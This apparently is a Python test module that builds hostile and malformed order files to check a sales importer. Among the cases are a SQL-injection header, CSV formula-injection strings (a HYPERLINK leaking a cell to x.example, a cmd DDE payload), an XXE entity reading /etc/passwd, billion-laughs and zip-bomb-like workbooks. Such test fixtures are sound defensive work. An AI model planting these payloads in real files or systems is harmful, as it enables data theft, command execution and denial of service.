"""A corpus of odd and hostile order files, generated at test time (nothing large committed).

Each case writes one file and says what must happen to it: refused with a plain sentence
(matched by a pattern), or imported with the figures computed here from the very rows written
(lines stored, net sales, the reasons rows were left out). The kinds cover what real shops send
(encodings, decimal commas, title rows, serial dates, disguised workbooks) and what a tester or
a broken export sends (binary, endless lines, giant cells, far-corner cells, 1e308 amounts,
unclosed quotes, dates in 2099, formula-looking names, SQL-looking headers).
"""

from __future__ import annotations

import gzip
import io
import itertools
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import date, timedelta
from pathlib import Path

HEADER = ["Order ID", "Order Date", "Customer", "Product", "Quantity", "Unit Price"]
PRODUCTS = ["Tea cup", "Teapot", "Green tea", "Mug"]
PRICES = [3.5, 12.0, 8.25, 5.0]


@dataclass(frozen=True)
class Line:
    order: str
    day: date
    customer: str
    product: str
    quantity: int
    price: float

    @property
    def amount(self) -> float:
        return self.quantity * self.price


def base_lines(count: int = 8) -> list[Line]:
    return [
        Line(
            f"A{1000 + i}",
            date(2024, 3, 1 + i),
            f"C{i % 3}",
            PRODUCTS[i % 4],
            i % 3 + 1,
            PRICES[i % 4],
        )
        for i in range(count)
    ]


def net(lines: list[Line]) -> float:
    return round(sum(line.amount for line in lines), 2)


def cells(line: Line, day: str | None = None, price: str | None = None) -> list[str]:
    return [
        line.order,
        day or line.day.isoformat(),
        line.customer,
        line.product,
        str(line.quantity),
        price or f"{line.price:.2f}",
    ]


@dataclass(frozen=True)
class Refused:
    pattern: str  # a regular expression the message must match


@dataclass(frozen=True)
class Imported:
    lines: int  # lines stored
    net_sales: float
    excluded: dict[str, int] = field(default_factory=dict)
    note: str | None = None  # a pattern one of the report's notes must match
    products: tuple[str, ...] = ()  # product names stored, when the case is about text


Expect = Refused | Imported


@dataclass(frozen=True)
class Case:
    name: str
    build: Callable[[Path], Path]
    expect: Expect
    mapping: dict[str, str | int] | None = None  # given as the user would (--mapping)


def _csv(
    path: Path,
    rows: list[list[str]],
    encoding: str = "utf-8",
    sep: str = ",",
    newline: str = "\n",
    header: list[str] | None = None,
) -> Path:
    def quote(cell: str) -> str:
        if any(ch in cell for ch in (sep, '"', "\n", "\r")):
            return '"' + cell.replace('"', '""') + '"'
        return cell

    body = [header or HEADER, *rows]
    text = newline.join(sep.join(quote(c) for c in row) for row in body) + newline
    path.write_bytes(text.encode(encoding))
    return path


def _plain(
    name: str, rows_of: Callable[[list[Line]], list[list[str]]] | None = None, **options: object
) -> Callable[[Path], Path]:
    def build(folder: Path) -> Path:
        lines = base_lines()
        rows = rows_of(lines) if rows_of else [cells(line) for line in lines]
        return _csv(folder / name, rows, **options)  # type: ignore[arg-type]

    return build


def _xlsx(
    name: str, rows: list[list[object]], corner: object | None = None, title: str | None = None
) -> Callable[[Path], Path]:
    def build(folder: Path) -> Path:
        from openpyxl import Workbook

        book = Workbook()
        sheet = book.active
        assert sheet is not None
        if title:
            sheet.append([title])
            sheet.append([])
        sheet.append(HEADER)
        for row in rows:
            sheet.append(row)
        if corner is not None:
            sheet["XFD1048576"] = corner
        book.save(folder / name)
        return folder / name

    return build


def _native_rows(lines: list[Line]) -> list[list[object]]:
    return [[x.order, x.day, x.customer, x.product, x.quantity, x.price] for x in lines]


def _bytes(name: str, data: bytes) -> Callable[[Path], Path]:
    def build(folder: Path) -> Path:
        (folder / name).write_bytes(data)
        return folder / name

    return build


def _zip_parts(name: str, parts: dict[str, bytes]) -> Callable[[Path], Path]:
    def build(folder: Path) -> Path:
        with zipfile.ZipFile(folder / name, "w", zipfile.ZIP_DEFLATED) as archive:
            for part, data in parts.items():
                archive.writestr(part, data)
        return folder / name

    return build


_CT = (
    b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
    b'package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.'
    b'openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType='
    b'"application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.'
    b'openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/'
    b'worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    b'spreadsheetml.worksheet+xml"/></Types>'
)
_RELS = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
    b'2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
    b'officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
    b"</Relationships>"
)
_BOOK = (
    b'<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
    b'2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
    b'><sheets><sheet name="Orders" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
_BOOK_RELS = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
    b'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
    b'openxmlformats.org/officeDocument/2006/relationships/worksheet" Target='
    b'"worksheets/sheet1.xml"/></Relationships>'
)


def _sheet_xml(prolog: bytes, body: bytes) -> bytes:
    return (
        b'<?xml version="1.0"?>' + prolog + b'<worksheet xmlns="http://schemas.openxmlformats'
        b'.org/spreadsheetml/2006/main"><sheetData>' + body + b"</sheetData></worksheet>"
    )


def _hand_made_book(name: str, prolog: bytes, body: bytes) -> Callable[[Path], Path]:
    return _zip_parts(
        name,
        {
            "[Content_Types].xml": _CT,
            "_rels/.rels": _RELS,
            "xl/workbook.xml": _BOOK,
            "xl/_rels/workbook.xml.rels": _BOOK_RELS,
            "xl/worksheets/sheet1.xml": _sheet_xml(prolog, body),
        },
    )


def _gz(name: str, truncate: bool = False) -> Callable[[Path], Path]:
    def build(folder: Path) -> Path:
        raw = io.BytesIO()
        _csv(folder / "inner.csv", [cells(x) for x in base_lines()])
        data = gzip.compress((folder / "inner.csv").read_bytes() * 1)
        (folder / "inner.csv").unlink()
        raw.write(data[: len(data) // 2] if truncate else data)
        (folder / name).write_bytes(raw.getvalue())
        return folder / name

    return build


def _encoded(name: str, encoding: str, names: list[str]) -> Callable[[Path], Path]:
    def rows_of(lines: list[Line]) -> list[list[str]]:
        return [[*cells(x)[:3], names[i % len(names)], *cells(x)[4:]] for i, x in enumerate(lines)]

    return _plain(name, rows_of, encoding=encoding)


def _replace(lines: list[Line], index: int, **changes: object) -> list[Line]:
    from dataclasses import replace

    out = list(lines)
    out[index] = replace(out[index], **changes)  # type: ignore[arg-type]
    return out


CJK_NAMES = {
    "big5": ["保溫杯", "茶葉禮盒", "陶瓷茶壺", "烏龍茶"],
    "gbk": ["保温杯", "茶叶礼盒", "陶瓷茶壶", "乌龙茶"],
    "gb18030": ["保温杯", "茶叶礼盒", "陶瓷茶壶", "乌龙茶"],
    "shift_jis": ["保温ボトル", "お茶セット", "急須", "マグカップ"],
    "euc_kr": ["보온병", "차 선물세트", "도자기 주전자", "머그컵"],
}


def corpus(today: date) -> list[Case]:
    """Every case; `today` is the import day (dates after it are left out)."""
    base = base_lines()
    total = net(base)
    n = len(base)
    rows = [cells(x) for x in base]
    cases: list[Case] = []

    def add(
        name: str,
        build: Callable[[Path], Path],
        expect: Expect,
        mapping: dict[str, str | int] | None = None,
    ) -> None:
        cases.append(Case(name, build, expect, mapping))

    # --- files that are no table of orders ------------------------------------------------
    add("empty", _bytes("empty.csv", b""), Refused(r"is empty"))
    add("blank lines only", _bytes("blank.csv", b"\n\n  \n"), Refused(r"is empty"))
    add("header only", _plain("header.csv", lambda _: []), Refused(r"no rows of orders"))
    add(
        "binary",
        _bytes("orders.csv", bytes(range(256)) * 64),
        Refused(r"does not look like a table of orders"),
    )
    add("pdf", _bytes("orders.pdf", b"%PDF-1.4 ..."), Refused(r'cannot read "\.pdf" files'))
    add("no type ending", _bytes("orders", b"a,b\n1,2\n"), Refused(r"files without a type"))
    add(
        "html saved as xls",
        _bytes("orders.xls", b"<html><table><tr><td>1</td></tr></table>"),
        Refused(r"web page"),
    )
    add("truncated gzip", _gz("orders.csv.gz", truncate=True), Refused(r"damaged"))
    add(
        "truncated xlsx",
        lambda f: _truncated(_xlsx("t.xlsx", _native_rows(base))(f)),
        Refused(r"damaged or not a complete Excel file"),
    )
    add(
        "ole header as xlsx",
        _bytes("enc.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600),
        Refused(r"damaged|password"),
    )
    add(
        "one 5 MB line",
        _bytes("line.csv", b"a," * (5 * 1024 * 1024 // 2)),
        Refused(r"hold no line break"),
    )
    add(
        "3000 columns",
        _bytes(
            "wide.csv",
            (",".join(f"c{j}" for j in range(3000)) + "\n" + ",".join("1" * 3000) + "\n").encode(),
        ),
        Refused(r"has 3,000 columns"),
    )
    add(
        "giant cell",
        _plain(
            "giant.csv",
            lambda ls: [[*cells(ls[0])[:3], "x" * 40000, *cells(ls[0])[4:]], *map(cells, ls[1:])],
        ),
        Refused(r"Row 2 of giant\.csv holds a cell of 40,000 characters"),
    )
    add(
        "giant cell in a workbook",
        _hand_made_book(
            "giant.xlsx",
            b"",
            b'<row r="1"><c r="A1" t="inlineStr"><is><t>' + b"y" * 400_000 + b"</t></is></c></row>",
        ),
        Refused(r"holds a cell of more than 32,767 characters"),
    )
    add(
        "zip-bomb-like shared strings",
        _zip_parts(
            "bomb.xlsx",
            {
                "[Content_Types].xml": _CT,
                "_rels/.rels": _RELS,
                "xl/workbook.xml": _BOOK,
                "xl/_rels/workbook.xml.rels": _BOOK_RELS,
                "xl/worksheets/sheet1.xml": _sheet_xml(
                    b"", b'<row r="1"><c r="A1" t="s"><v>0</v></c></row>'
                ),
                "xl/sharedStrings.xml": b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
                b'2006/main"><si><t>' + b" " * 30_000_000 + b"</t></si></sst>",
            },
        ),
        Refused(r"holds a cell of more than"),
    )
    add(
        "no date column",
        _plain(
            "nodate.csv",
            lambda ls: [[c for j, c in enumerate(cells(x)) if j != 1] for x in ls],
            header=[h for h in HEADER if h != "Order Date"],
        ),
        Refused(r"no column for (the )?order date"),
    )
    add(
        "no money column",
        _plain("nomoney.csv", lambda ls: [cells(x)[:4] for x in ls], header=HEADER[:4]),
        Refused(r"no column for"),
    )
    add(
        "line with extra cells",
        _plain(
            "extra.csv",
            lambda ls: [*map(cells, ls[:3]), [*cells(ls[3]), "oops", "more"], *map(cells, ls[4:])],
        ),
        Refused(r"Line 5 of extra\.csv has 8 cells where the lines above have 6"),
    )

    # --- encodings and ways of writing text --------------------------------------------------
    add("utf-8 with BOM", _plain("bom.csv", encoding="utf-8-sig"), Imported(n, total))
    add("utf-16 tab-separated", _plain("u16.txt", encoding="utf-16", sep="\t"), Imported(n, total))
    add(
        "cp1252 accents",
        _encoded("cafe.csv", "cp1252", ["Café crème", "Thé vert"]),
        Imported(n, total, products=("Café crème", "Thé vert")),
    )
    for encoding, names in CJK_NAMES.items():
        add(
            f"{encoding} names",
            _encoded(f"{encoding}.csv", encoding, names),
            Imported(n, total, products=tuple(names)),
        )
    add("CRLF line ends", _plain("crlf.csv", newline="\r\n"), Imported(n, total))
    add("old Mac CR line ends", _plain("cr.csv", newline="\r"), Imported(n, total))
    add(
        "semicolons and decimal commas",
        _plain(
            "de.csv",
            lambda ls: [cells(x, price=f"{x.price:.2f}".replace(".", ",")) for x in ls],
            sep=";",
        ),
        Imported(n, total),
    )
    add(
        "thousands separators",
        _plain("k.csv", lambda ls: [cells(x, price=f"{x.price * 1000:,.2f}") for x in ls]),
        Imported(n, round(total * 1000, 2)),
    )
    add(
        "Swiss apostrophes",
        _plain(
            "ch.csv",
            lambda ls: [cells(x, price=f"{x.price * 1000:,.2f}".replace(",", "'")) for x in ls],
        ),
        Imported(n, round(total * 1000, 2)),
    )
    add(
        "currency marks",
        _plain("gbp.csv", lambda ls: [cells(x, price=f"£{x.price:.2f}") for x in ls]),
        Imported(n, total),
    )
    add("pipes in a .txt", _plain("pipes.txt", sep="|"), Imported(n, total))
    add("tabs in a .tsv", _plain("tabs.tsv", sep="\t"), Imported(n, total))
    add("gzipped", _gz("orders.csv.gz"), Imported(n, total))
    add(
        "title lines above the header",
        lambda f: _titled(f / "titled.csv", rows),
        Imported(n, total, note=r"Skipped 2 title or blank line"),
    )
    add(
        "blank lines between rows",
        lambda f: _with_blank_lines(f / "gaps.csv", rows),
        Imported(n, total),
    )

    # --- money ----------------------------------------------------------------------------------
    returned = _replace(base, 2, quantity=-base[2].quantity)
    add(
        "parentheses negative",
        _plain(
            "paren.csv",
            lambda ls: [
                *map(cells, ls[:2]),
                [*cells(ls[2])[:4], f"({ls[2].quantity})", cells(ls[2])[5]],
                *map(cells, ls[3:]),
            ],
        ),
        Imported(n, net(returned)),
    )
    add(
        "Unicode minus",
        _plain(
            "minus.csv",
            lambda ls: [
                *map(cells, ls[:2]),
                [*cells(ls[2])[:4], f"\u2212{ls[2].quantity}", cells(ls[2])[5]],
                *map(cells, ls[3:]),
            ],
        ),
        Imported(n, net(returned)),
    )
    add(
        "1e308 amounts",
        _plain(
            "e308.csv",
            lambda ls: [
                cells(ls[0], price="1e308"),
                cells(ls[1], price="1e308"),
                *map(cells, ls[2:]),
            ],
        ),
        Imported(n - 2, net(base[2:]), {ABSURD: 2}),
    )
    add(
        "NaN and inf among valid rows",
        _plain(
            "nan.csv",
            lambda ls: [
                cells(ls[0], price="NaN"),
                cells(ls[1], price="inf"),
                cells(ls[2], price="-Infinity"),
                *map(cells, ls[3:]),
            ],
        ),
        Imported(n - 3, net(base[3:]), {NO_AMOUNT: 1, BAD_QTY_PRICE: 2}),
    )
    add(
        "absurd quantity",
        _plain(
            "qty.csv",
            lambda ls: [[*cells(ls[0])[:4], "1e15", cells(ls[0])[5]], *map(cells, ls[1:])],
        ),
        Imported(n - 1, net(base[1:]), {ABSURD: 1}),
    )

    # --- dates ----------------------------------------------------------------------------------
    future = (today + timedelta(days=400)).isoformat()
    add(
        "a line dated next year",
        _plain("future.csv", lambda ls: [cells(ls[0], day=future), *map(cells, ls[1:])]),
        Imported(n - 1, net(base[1:]), {FUTURE: 1}),
    )
    add(
        "a line dated 2099",
        _plain("2099.csv", lambda ls: [cells(ls[0], day="2099-12-31"), *map(cells, ls[1:])]),
        Imported(n - 1, net(base[1:]), {FUTURE: 1}),
    )
    add(
        "a line dated 1985 in a recent file",
        _plain("1985.csv", lambda ls: [cells(ls[0], day="1985-03-01"), *map(cells, ls[1:])]),
        Imported(n - 1, net(base[1:]), {OLD: 1}),
    )
    add(
        "a whole file from the 1980s",
        _plain(
            "eighties.csv",
            lambda ls: [cells(x, day=x.day.replace(year=1987).isoformat()) for x in ls],
        ),
        Imported(n, total),
    )
    # plain numbers are not taken for dates unasked (they could be codes): the user maps them
    add(
        "Excel serial dates",
        _xlsx(
            "serial.xlsx",
            [[x.order, (x.day - date(1899, 12, 30)).days, *_native_rows([x])[0][2:]] for x in base],
        ),
        Imported(n, total),
        mapping={
            "order_id": "Order ID",
            "quantity": "Quantity",
            "unit_price": "Unit Price",
            "order_date": "Order Date",
        },
    )
    add(
        "yyyymmdd dates",
        _plain("ymd.csv", lambda ls: [cells(x, day=x.day.strftime("%Y%m%d")) for x in ls]),
        Imported(n, total),
    )
    add(
        "Chinese dates",
        _plain(
            "cn.csv",
            lambda ls: [cells(x, day=f"{x.day.year}年{x.day.month}月{x.day.day}日") for x in ls],
        ),
        Imported(n, total),
    )
    add(
        "day-first slashes",
        _plain("dmy.csv", lambda ls: [cells(x, day=x.day.strftime("%d/%m/%Y")) for x in ls]),
        Imported(n, total),
    )
    add(
        "mixed ISO and slashes",
        _plain(
            "mixed.csv",
            lambda ls: [
                cells(x, day=x.day.isoformat() if i % 2 else x.day.strftime("%m/%d/%Y"))
                for i, x in enumerate(ls)
            ],
        ),
        Imported(n, total),
    )
    add(
        "unreadable date",
        _plain("baddate.csv", lambda ls: [cells(ls[0], day="32/13/2024"), *map(cells, ls[1:])]),
        Imported(n - 1, net(base[1:]), {BAD_DATE: 1}),
    )

    # --- headers, ids and names -----------------------------------------------------------------
    add(
        "duplicate headers",
        _plain(
            "dup.csv",
            lambda ls: [[*cells(x), x.customer] for x in ls],
            header=[*HEADER, "Customer"],
        ),
        Imported(n, total),
    )
    add(
        "SQL-looking header",
        _plain(
            "sql.csv",
            lambda ls: [[*cells(x), "x"] for x in ls],
            header=[*HEADER, "x'); DROP TABLE order_lines;--"],
        ),
        Imported(n, total),
    )
    hostile = [
        "=1+2",
        '=HYPERLINK("http://x.example/?leak="&A1,"x")',
        "@SUM(A1)",
        "+cmd|' /C calc'!A0",
    ]
    add(
        "formula-looking names",
        _encoded("formula.csv", "utf-8", hostile),
        Imported(n, total, products=tuple(hostile)),
    )
    add(
        "leading-zero ids",
        _plain("zeros.csv", lambda ls: [[f"00{x.order[1:]}", *cells(x)[1:]] for x in ls]),
        Imported(n, total),
    )
    add(
        "unclosed quote",
        lambda f: _raw_lines(
            f / "quote.csv",
            [
                *map(cells, base[:2]),
                [*cells(base[2])[:3], '"Mug', *cells(base[2])[4:]],
                *map(cells, base[3:5]),
                [*cells(base[5])[:3], 'Bowl"', *cells(base[5])[4:]],
                *map(cells, base[6:]),
            ],
        ),
        Imported(n - 3, net([*base[:2], *base[6:]]) + base[5].amount, note=r"lines 4–7"),
    )

    # --- workbooks ------------------------------------------------------------------------------
    add("plain workbook", _xlsx("orders.xlsx", _native_rows(base)), Imported(n, total))
    add(
        "workbook with a title",
        _xlsx("titled.xlsx", _native_rows(base), title="Orders March"),
        Imported(n, total),
    )
    add(
        "value at XFD1048576",
        _xlsx("corner.xlsx", _native_rows(base), corner="x"),
        Imported(n, total, {NO_DATE: 1}),
    )
    add(
        "workbook under a .csv name",
        lambda f: _renamed(_xlsx("w.xlsx", _native_rows(base))(f), "w.csv"),
        Imported(n, total),
    )
    add("text under an .xls name", _plain("text.xls"), Imported(n, total))
    add("legacy .xls", lambda f: _xls(f / "old.xls", base), Imported(n, total))
    add("empty workbook", _xlsx("empty.xlsx", []), Refused(r"no rows of orders"))
    add(
        "XXE in a sheet",
        _hand_made_book(
            "xxe.xlsx",
            b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
            b'<row r="1"><c r="A1" t="inlineStr"><is><t>&e;</t></is></c></row>',
        ),
        Refused(r"damaged|no rows|empty|no column"),
    )
    add(
        "billion laughs in a sheet",
        _hand_made_book(
            "laughs.xlsx",
            _LAUGHS,
            b'<row r="1"><c r="A1" t="inlineStr"><is><t>&h;</t></is></c></row>',
        ),
        Refused(r"damaged|no rows|empty|no column"),
    )
    return cases


def _raw_lines(path: Path, rows: list[list[str]]) -> Path:
    """Cells joined as they are, quotes and all (no CSV quoting): for broken files."""
    path.write_text("\n".join(",".join(r) for r in [HEADER, *rows]) + "\n", encoding="utf-8")
    return path


def _laughs() -> bytes:
    """Eight entities each ten times the one before: 10**8 characters if anyone expands them."""
    names = "abcdefgh"
    parts = [b'<!ENTITY a "aaaaaaaaaa">']
    for before, name in itertools.pairwise(names):
        parts.append(f'<!ENTITY {name} "{("&" + before + ";") * 10}">'.encode())
    return b"<!DOCTYPE x [" + b"".join(parts) + b"]>"


_LAUGHS = _laughs()


def _truncated(path: Path) -> Path:
    data = path.read_bytes()
    path.write_bytes(data[: len(data) // 2])
    return path


def _renamed(path: Path, name: str) -> Path:
    return path.rename(path.with_name(name))


def _titled(path: Path, rows: list[list[str]]) -> Path:
    _csv(path, rows)
    path.write_bytes(b"Orders report March 2024\n\n" + path.read_bytes())
    return path


def _with_blank_lines(path: Path, rows: list[list[str]]) -> Path:
    _csv(path, rows)
    lines = path.read_text(encoding="utf-8").splitlines()
    path.write_text("\n\n".join(lines) + "\n", encoding="utf-8")
    return path


def _xls(path: Path, lines: list[Line]) -> Path:
    import xlwt

    book = xlwt.Workbook()
    sheet = book.add_sheet("Orders")
    dates = xlwt.easyxf(num_format_str="YYYY-MM-DD")
    for j, title in enumerate(HEADER):
        sheet.write(0, j, title)
    for i, x in enumerate(lines, start=1):
        for j, value in enumerate([x.order, x.day, x.customer, x.product, x.quantity, x.price]):
            if j == 1:
                sheet.write(i, j, value, dates)
            else:
                sheet.write(i, j, value)
    book.save(str(path))
    return path


# the reasons, spelled as the import report gives them (core.ingest.clean)
ABSURD = "amount, quantity or price not a finite number or beyond any real sale"
FUTURE = "order date after the day of the import"
OLD = "order date before 1990 (the rest of the file is recent)"
NO_AMOUNT = "no amount (and no quantity × unit price)"
BAD_QTY_PRICE = "quantity or unit price not readable"
BAD_DATE = "order date not readable"
NO_DATE = "no order date"
